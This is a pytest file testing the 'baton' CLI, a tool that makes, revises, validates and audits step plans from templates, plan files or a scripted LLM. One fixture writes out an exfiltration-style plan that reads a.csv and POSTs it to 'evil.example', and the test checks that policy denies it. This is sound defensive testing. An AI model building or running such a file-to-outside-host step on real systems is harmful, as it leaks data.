"""`baton plan`, `revise`, `plans` and `templates` end to end through the real entry point."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from tests.support.cli_in_process import in_process_baton

BATON_TOML = """
[users.alice]
roles = ["analyst"]

[users.bob]
roles = ["approver"]
"""
TOTAL_GOAL = "Total the amount column of sales.csv and write it to total.json"
# A valid version is then decided by policy; any of these means it passed validation.
VETTED = {"validated", "pending_approval", "approved", "denied"}


@pytest.fixture
def baton(data_dir, monkeypatch, capsys):
    """Run ``baton`` in-process (fast) in a fresh directory with declared users and a data dir."""
    (data_dir / "baton.toml").write_text(BATON_TOML)
    monkeypatch.setenv("BATON_DATA_DIR", str(data_dir / "data"))
    monkeypatch.setenv("BATON_USER", "alice")
    with in_process_baton(capsys) as run:
        yield run


def _json(result: subprocess.CompletedProcess[str]):
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def test_plan_stores_a_validated_template_plan_and_shows_it_as_a_tree(baton):
    shown = baton("plan", TOTAL_GOAL)
    assert shown.returncode == 0, shown.stderr
    for text in ("csv-total-to-file", "files.read", "⟵ load.text", "why: read the CSV"):
        assert text in shown.stdout
    listed = _json(baton("plans", "list", "--json"))
    assert len(listed) == 1 and listed[0]["status"] in VETTED
    stored = _json(baton("plans", "show", listed[0]["plan_id"], "--json"))
    assert stored["planner"] == "template" and stored["origin"]["name"] == "csv-total-to-file"
    assert stored["requester"] == "alice" and len(stored["plan_hash"]) == 64
    ledger = _json(baton("audit", "show", "--json", "--subject", stored["plan_id"]))
    assert [e["kind"] for e in ledger][:3] == ["goal", "plan_version", "validation"]


def test_revision_adds_a_version_and_diff_shows_the_change(baton):
    plan_id = _json(baton("plan", "--json", "Copy sales.csv to backup.csv"))["plan_id"]
    revised = _json(baton("revise", "--json", plan_id, "Copy sales.csv to archive/sales.csv"))
    assert revised["version"] == 2 and revised["feedback"] == "Copy sales.csv to archive/sales.csv"
    first = _json(baton("plans", "show", plan_id, "--version", "1", "--json"))
    assert first["status"] == "superseded"
    diff = _json(baton("plans", "show", plan_id, "--diff", "--json"))
    assert (diff["from"], diff["to"]) == (1, 2)
    assert {"step": "save", "paths": ["$.args.path"]} in diff["changed"]
    text = baton("plans", "show", plan_id, "--diff")
    assert text.returncode == 0 and '+        "path": "archive/sales.csv"' in text.stdout
    refused = baton("revise", plan_id, "make it nicer")
    assert refused.returncode == 1 and "baton plan --file" in refused.stderr


def test_unmatched_goal_fails_with_nearest_templates_and_is_recorded_invalid(baton):
    result = baton("plan", "Total the amount column of sales.csv and email it to bob")
    assert result.returncode == 1
    assert "no template matches; configure an LLM endpoint or add a template" in result.stderr
    assert "csv-total-to-file" in result.stderr
    invalid = _json(baton("plans", "list", "--status", "invalid", "--json"))
    assert len(invalid) == 1 and invalid[0]["error"].startswith("no template matches")


def test_plan_file_goes_through_validation_and_invalid_files_are_kept(baton, data_dir):
    good = {"goal": "read it", "steps": [{"id": "load", "tool": "files.read", "args": {"path": "a.txt"}}]}
    (data_dir / "good.json").write_text(json.dumps(good))
    (data_dir / "bad.json").write_text(json.dumps({**good, "steps": [{"id": "x", "tool": "nope"}]}))
    stored = _json(baton("plan", "--file", "good.json", "--json"))
    assert stored["planner"] == "file" and stored["status"] in VETTED
    bad = baton("plan", "--file", "bad.json")
    assert bad.returncode == 1 and "unknown_tool" in bad.stderr and "recorded as plan" in bad.stderr
    assert baton("plan", "--file", "missing.json").returncode == 2
    assert baton("plan").returncode == 2


def test_unknown_users_and_unconfigured_llm_are_usage_errors(baton):
    unknown = baton("--as", "mallory", "plan", TOTAL_GOAL)
    assert unknown.returncode == 2 and "unknown user 'mallory'" in unknown.stderr
    no_llm = baton("plan", "--planner", "llm", TOTAL_GOAL)
    assert no_llm.returncode == 2 and "no LLM endpoint is configured" in no_llm.stderr
    assert baton("plans", "show", "p-00000000").returncode == 1


def test_templates_list_show_and_save_a_plan_as_a_new_template(baton):
    names = {t["name"] for t in _json(baton("templates", "list", "--json"))}
    assert {"csv-total-to-file", "csv-total-post", "csv-aggregate"} <= names
    shown = _json(baton("templates", "show", "csv-aggregate", "--json"))
    assert shown["pre_approved"] is True
    plan_id = _json(baton("plan", "--json", "Copy sales.csv to backup.csv"))["plan_id"]
    saved = baton("templates", "add", "--from-plan", plan_id, "--name", "backup-copy",
                  "--param", "target=$.steps.save.args.path", "--param", "src=sales.csv")
    assert saved.returncode == 0, saved.stderr
    assert "backup-copy v1" in saved.stdout and "Copy {src} to {target}" in saved.stdout
    refused = baton("templates", "add", "--from-plan", plan_id, "--name", "backup-copy",
                    "--param", "target=$.steps.save.args.path", "--pre-approved")
    assert refused.returncode == 2 and "may not mark a template pre-approved" in refused.stderr
    used = _json(baton("plan", "--json", "--planner", "template", "Copy q2.csv to old/q2.csv"))
    assert used["origin"] == {"name": "backup-copy", "version": 1,
                              "params": {"target": "old/q2.csv", "src": "q2.csv"}}


def test_the_installed_entry_point_plans_a_goal(data_dir):
    (data_dir / "baton.toml").write_text(BATON_TOML)
    env = {**os.environ, "BATON_DATA_DIR": str(data_dir / "data"), "BATON_USER": "alice"}
    result = subprocess.run([sys.executable, "-m", "baton", "plan", "--json", TOTAL_GOAL],
                            capture_output=True, text=True, timeout=120, check=False, env=env,
                            cwd=data_dir)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["origin"]["name"] == "csv-total-to-file"


def _llm_reply(*steps: dict) -> str:
    """A reply in the strict structured-output shape (arguments as a JSON string)."""
    return json.dumps({"steps": [
        {"id": s["id"], "tool": s["tool"], "args_json": json.dumps(s["args"]), "depends_on": [],
         "why": ""} for s in steps]})


@pytest.fixture
def llm_env(openai_server, monkeypatch):
    """Point Baton at the scripted local endpoint with a key that must never be recorded."""
    from tests.support.openai_server import refuse_remote_endpoints

    refuse_remote_endpoints(monkeypatch)
    monkeypatch.setenv("BATON_LLM_BASE_URL", openai_server.base_url)
    monkeypatch.setenv("BATON_LLM_MODEL", "scripted")
    monkeypatch.setenv("BATON_LLM_API_KEY", "sk-test-NEVER-RECORD-1234567890")
    return openai_server


def test_llm_planning_records_goal_every_exchange_version_and_validation_but_never_the_key(
        baton, llm_env):
    from tests.support.openai_server import Completion

    read = {"id": "load", "tool": "files.read", "args": {"path": "sales.csv"}}
    llm_env.script(Completion(content=_llm_reply({**read, "tool": "files.reed"}),
                              prompt_tokens=120, completion_tokens=30),
                   Completion(content=_llm_reply(read), prompt_tokens=150, completion_tokens=25))
    stored = _json(baton("plan", "--json", "Read sales.csv"))
    assert stored["planner"] == "llm" and stored["status"] in VETTED
    events = _json(baton("audit", "show", "--json", "--subject", stored["plan_id"]))
    kinds = [e["kind"] for e in events]
    assert kinds[:5] == ["goal", "llm_exchange", "llm_exchange", "plan_version", "validation"]
    first, second = (e["payload"] for e in events[1:3])
    assert (first["model"], first["prompt_tokens"], first["completion_tokens"]) == ("scripted", 120, 30)
    assert first["problems"][0]["code"] == "unknown_tool" and second["problems"] == []
    assert len(first["prompt_sha256"]) == 64 and second["latency_ms"] >= 0
    assert "NEVER-RECORD" not in json.dumps(events)


def test_a_failed_llm_revision_keeps_the_feedback_and_error_in_the_ledger(baton, llm_env):
    from tests.support.openai_server import Completion

    llm_env.script(Completion(content=_llm_reply(
        {"id": "load", "tool": "files.read", "args": {"path": "sales.csv"}})))
    plan_id = _json(baton("plan", "--json", "Read sales.csv"))["plan_id"]
    llm_env.script(Completion(content=None, refusal="I will not email files"))
    refused = baton("revise", plan_id, "and email it to bob@example.com")
    assert refused.returncode == 1 and "refused to plan" in refused.stderr
    assert f"recorded in the ledger of plan {plan_id}" in refused.stderr
    events = _json(baton("audit", "show", "--json", "--subject", plan_id))
    failed = [e["payload"] for e in events if e["kind"] == "validation" and not e["payload"]["ok"]]
    assert len(failed) == 1 and failed[0]["feedback"] == "and email it to bob@example.com"
    assert failed[0]["revision_of"] == 1 and "refused to plan" in failed[0]["error"]
    assert [e["kind"] for e in events].count("llm_exchange") == 2
    assert _json(baton("plans", "show", plan_id, "--json"))["version"] == 1


def test_templates_add_takes_a_file_of_any_name_and_plans_with_it(baton, data_dir):
    (data_dir / "my draft.yaml").write_text(
        "name: read-one\nversion: 7\nexample_goals: ['Read notes.txt']\npatterns: ['read {path}']\n"
        "params: [{name: path, pattern: '^[a-z.]+$'}]\n"
        "plan: {steps: [{id: load, tool: files.read, args: {path: '{{path}}'}}]}\n")
    added = baton("templates", "add", "my draft.yaml")
    assert added.returncode == 0, added.stderr
    assert "read-one v1" in added.stdout
    assert _json(baton("templates", "show", "read-one", "--json"))["version"] == 1
    used = _json(baton("plan", "--json", "--planner", "template", "Read todo.txt"))
    assert used["origin"]["name"] == "read-one" and used["plan"]["steps"][0]["args"] == {"path": "todo.txt"}
    (data_dir / "nameless.txt").write_text("patterns: ['x']\nplan: {steps: []}\n")
    nameless = baton("templates", "add", "nameless.txt")
    assert nameless.returncode == 1 and "give the template a name" in nameless.stderr


def test_diff_and_template_text_keep_long_lines_whole_when_piped(baton):
    deep = "backup/" + "a-very-long-directory-name/" * 4
    plan_id = _json(baton("plan", "--json", f"Copy sales.csv to {deep}one.csv"))["plan_id"]
    assert baton("revise", plan_id, f"Copy sales.csv to {deep}two.csv").returncode == 0
    diff = baton("plans", "show", plan_id, "--diff")
    assert f'+        "path": "{deep}two.csv",' in diff.stdout
    assert f'-        "path": "{deep}one.csv",' in diff.stdout
    shown = baton("templates", "show", "copy-file")
    assert "refusing to overwrite an existing" in " ".join(shown.stdout.split())


def test_a_failed_goal_with_json_prints_the_recorded_invalid_version(baton):
    failed = baton("plan", "--json", "make me a sandwich")
    assert failed.returncode == 1
    recorded = json.loads(failed.stdout)
    assert recorded["status"] == "invalid" and recorded["error"].startswith("no template matches")
    text = baton("plan", "make me a sandwich")
    assert text.returncode == 1 and text.stderr.startswith("error: no template matches")


def test_planner_option_with_a_plan_file_is_a_usage_error(baton, data_dir):
    (data_dir / "p.json").write_text(json.dumps(
        {"goal": "g", "steps": [{"id": "a", "tool": "files.read", "args": {"path": "a"}}]}))
    mixed = baton("plan", "--file", "p.json", "--planner", "llm")
    assert mixed.returncode == 2 and "--planner does not apply to --file" in mixed.stderr
    listed = baton("plans", "list", "--json")  # nothing stored: not even a database made
    assert listed.returncode == 1 and "no Baton database" in listed.stderr


DENIED_GOAL = "Post the total of sales.csv to https://webhook.example.net/finance"


def test_plan_denied_by_policy_exits_1_but_still_shows_the_plan_and_why(baton):
    denied = baton("plan", DENIED_GOAL)
    assert denied.returncode == 1
    assert "csv-total-post" in denied.stdout and "DENIED" in denied.stdout
    assert "webhook.example.net is not on the egress allowlist" in denied.stdout


def test_plan_denied_by_policy_with_json_exits_1_and_prints_the_stored_version(baton):
    denied = baton("plan", "--json", DENIED_GOAL)
    assert denied.returncode == 1
    stored = json.loads(denied.stdout)
    assert stored["status"] == "denied" and stored["origin"]["name"] == "csv-total-post"


def test_plan_file_denied_by_policy_exits_1(baton, data_dir):
    leak = {"goal": "send it out", "steps": [
        {"id": "load", "tool": "files.read", "args": {"path": "a.csv"}},
        {"id": "send", "tool": "http.request", "args": {
            "method": "POST", "url": "https://evil.example/x", "body": {"ref": "load.text"}}}]}
    (data_dir / "leak.json").write_text(json.dumps(leak))
    assert baton("plan", "--file", "leak.json").returncode == 1


def test_plan_pending_approval_or_approved_exits_0(baton, data_dir):
    pending = baton("plan", "--json", "Copy sales.csv to backup.csv")
    assert pending.returncode == 0 and json.loads(pending.stdout)["status"] == "pending_approval"
    read = {"goal": "read it", "steps": [{"id": "load", "tool": "files.read", "args": {"path": "a.txt"}}]}
    (data_dir / "read.json").write_text(json.dumps(read))
    approved = baton("plan", "--file", "read.json", "--json")
    assert approved.returncode == 0 and json.loads(approved.stdout)["status"] == "approved"


def test_plan_help_documents_its_exit_codes(baton):
    text = " ".join(baton("plan", "--help").stdout.replace("│", " ").split())
    assert "Exit codes: 0 the plan can go ahead" in text and "1 it was denied by policy" in text


def test_a_revision_denied_by_policy_exits_1_and_is_still_stored(baton):
    plan_id = _json(baton("plan", "--json", "Copy sales.csv to backup.csv"))["plan_id"]
    revised = baton("revise", "--json", plan_id, DENIED_GOAL)
    assert revised.returncode == 1
    stored = json.loads(revised.stdout)
    assert (stored["version"], stored["status"]) == (2, "denied")


def test_a_template_revision_after_a_rejection_matches_the_feedback_alone(baton):
    plan_id = _json(baton("plan", "--json", "Copy sales.csv to backup.csv"))["plan_id"]
    assert baton("--as", "bob", "reject", plan_id, "--reason", "write it under archive/",
                 "--json").returncode == 0
    revised = _json(baton("revise", "--json", plan_id, "Copy sales.csv to archive/sales.csv"))
    assert revised["version"] == 2 and revised["origin"]["name"] == "copy-file"
    assert revised["plan"]["goal"] == "Copy sales.csv to archive/sales.csv"
    # The version still records what was asked for, the rejection included.
    assert revised["feedback"] == ("Copy sales.csv to archive/sales.csv\n\nThe approver rejected "
                                   "version 1: write it under archive/")
